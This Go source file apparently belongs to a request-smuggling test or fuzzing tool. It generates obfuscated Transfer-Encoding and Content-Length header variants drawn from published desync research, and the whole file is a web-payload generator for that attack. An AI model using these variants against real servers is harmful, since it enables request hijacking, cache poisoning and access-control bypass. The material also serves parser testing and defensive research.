// Package gadgets spells the two fields that say where a request ends as request smuggling does: so that one server
// takes the line for what it looks like and another does not. The families are those that were published: the
// mutations of defparam/smuggler, PortSwigger's "HTTP Desync Attacks" (TE.TE, CL.0, TE.0), regilero's tests of
// servers and proxies, and the differences between parsers that the http-garden has found. The spellings are made
// here, by rule. Each is a line of a head or several, without the end of the last.
package gadgets

import (
	"fmt"
	"strings"
)

// Few are bytes of every kind that servers trim, skip or end a line at.
var Few = []byte{0x00, '\t', '\n', '\v', '\r', ' ', 0x7f, 0x85, 0xa0}

// Odd are all the bytes that are neither printable nor ASCII, and the space.
func Odd() (odd []byte) {
	for b := range 256 {
		if b <= ' ' || b >= 0x7f {
			odd = append(odd, byte(b))
		}
	}
	return odd
}

// Codings spell "Transfer-Encoding: chunked", with each of the bytes wherever one can be.
func Codings(odd []byte) []string {
	const name = "Transfer-Encoding"
	all := spell(name, "chunked", "cow", odd)
	for _, value := range []string{"Chunked", "CHUNKED", "cHuNkEd", "chun\u212aed", "chunk", "identity", "identity, chunked", "chunked, identity", "gzip, chunked", "chunked, gzip", "chunked;q=1", "trailers, chunked", "%63hunked", "{chunked}", "=chunked"} {
		all = append(all, name+": "+value)
	}
	return append(all, "TE: chunked", "Content-Encoding: chunked", "Transfer-Encoding=chunked", "Tran\u017ffer-Encoding: chunked", "Content-Transfer-Encoding: chunked")
}

// Lengths spell "Content-Length: n", or what may be taken for it.
func Lengths(n int, odd []byte) []string {
	const name = "Content-Length"
	all := spell(name, fmt.Sprint(n), fmt.Sprint(n+1), odd)
	for _, format := range []string{"+%d", "-%d", "+ %d", "0%d", "00000000000000000000%d", "0x%x", "%#o", "0b%b", "%d.0", "%de0", "%d_", "_%d", "0_%d", "1 %d", "%d 1", "%d;", "=%d", "18446744073709551616%d", "\uff10%d", "%%3%d"} {
		all = append(all, name+": "+fmt.Sprintf(format, n))
	}
	return all
}

// spell is what both have in common. other is a value that means something else.
func spell(name, value, other string, odd []byte) (all []string) {
	field := name + ": " + value
	add := func(lines ...string) { all = append(all, strings.Join(lines, "\r\n")) }
	for _, b := range odd {
		c := string([]byte{b})
		add(c + field)
		add(name + c + ": " + value)
		add(name + ":" + c + value)
		add(field + c)
		add(name[:4] + c + name[4:] + ": " + value)
		add(name + ": " + value[:1] + c + value[1:])
		for _, end := range []string{"", "\r", "\n"} { // is it the end of a line?
			add("X-A: b" + end + c + field)
			add("X-A: b" + c + end + field)
			add(field + end + c + "X-A: b")
			add(field + c + end + "X-A: b")
		}
	}
	for _, other := range []string{
		strings.ToLower(name), strings.ToUpper(name), strings.ReplaceAll(name, "-", "_"), strings.ReplaceAll(name, "-", " "), strings.ReplaceAll(name, "-", "."), strings.ReplaceAll(name, "-", ""), strings.ReplaceAll(name, "-", "--"),
		strings.ReplaceAll(name, "-", "\u2010"), name[:len(name)-1], name + "s", name + "-", "-" + name, "X-" + name, name + ":", ":" + name, `"` + name + `"`, name + "\r\n ", name + "\r\n",
	} {
		add(other + ": " + value)
	}
	for _, v := range []string{`"` + value + `"`, "'" + value + "'", "x" + value, value + "x", value + " " + value, value + "," + value, value + ", " + other, other + ", " + value, "," + value, value + ",", " \t " + value + " \t ", "\r\n " + value, "\r\n\t" + value, "\n " + value, value + "\r\n ", value + "\r\n " + other, other + "\r\n " + value, ""} {
		add(name + ":" + v)
	}
	lower := strings.ToLower(name)
	add(field, field)
	add(field, lower+": "+value)
	add(field, name+": "+other)
	add(name+": "+other, field)
	add(lower+": "+other, field)
	add(field, lower+":")
	add("X-A: b", " "+field)
	add("X-A: b", "\t"+field)
	return all
}
